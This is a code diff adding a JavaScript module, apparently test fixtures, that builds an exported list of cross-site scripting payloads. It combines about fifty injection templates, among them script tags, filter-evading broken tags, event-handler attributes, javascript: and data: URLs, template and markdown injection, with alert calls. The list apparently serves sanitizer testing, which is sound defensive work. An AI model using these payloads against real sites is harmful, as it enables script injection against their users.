@@ -1,0 +1,10 @@
+// Text that would run if a page took it for markup: at least two hundred lines, each a way somebody has tried.
+const CALLS = ['alert(1)', 'alert`1`', 'window.alert(1)', 'eval("alert(1)")', 'setTimeout(alert,0,1)'];
+const TAGS = [
+  '<script>X</script>', '<SCRIPT>X</SCRIPT>', '<script/x>X</script>', '<scr<script>ipt>X</scr</script>ipt>', '"><script>X</script>', "'><script>X</script>", '</title><script>X</script>', '</textarea><script>X</script>', '<!--><script>X</script>-->', '<![CDATA[<script>X</script>]]>',
+  '<img src=x onerror=X>', '<img src=x onerror="X">', '<img/src=x/onerror=X>', '<IMG SRC=x OnErRoR=X>', '<img src="x` `onerror=X>', '<image src=x onerror=X>', '<svg onload=X>', '<svg/onload=X>', '<svg><script>X</script></svg>', '<svg><animate onbegin=X attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:X"><text x=1 y=1>a</text></a></svg>', '<math><mtext><img src=x onerror=X></mtext></math>', '<body onload=X>', '<iframe src="javascript:X"></iframe>', '<iframe srcdoc="<script>X</script>"></iframe>', '<object data="javascript:X"></object>', '<embed src="javascript:X">', '<video><source onerror=X></video>', '<audio src=x onerror=X>', '<input autofocus onfocus=X>',
+  '<select autofocus onfocus=X>', '<textarea autofocus onfocus=X>', '<details open ontoggle=X>', '<marquee onstart=X>', '<a href="javascript:X">a</a>', '<a href="&#106;avascript:X">a</a>', '<form action="javascript:X"><button>a</button></form>', '<button formaction="javascript:X">a</button>', '<base href="javascript:X//">', '<link rel=stylesheet href="javascript:X">',
+  '<meta http-equiv=refresh content="0;url=javascript:X">', '<style>@import "javascript:X";</style>', '<div style="background:url(javascript:X)">', '<template><script>X</script></template>', '<noscript><p title="</noscript><img src=x onerror=X>">', '{{constructor.constructor("X")()}}', '${X}', '[a](javascript:X)', '![a](x" onerror="X)', '<x onclick=X>a</x>', '\u202e<script>X</script>', '<a href="data:text/html,<script>X</script>">a</a>',
+];
+export const SCRIPTS = TAGS.flatMap((tag, i) => CALLS.filter((_, n) => n < 4 || i % 2 === 0).map(call => tag.replaceAll('X', call)));
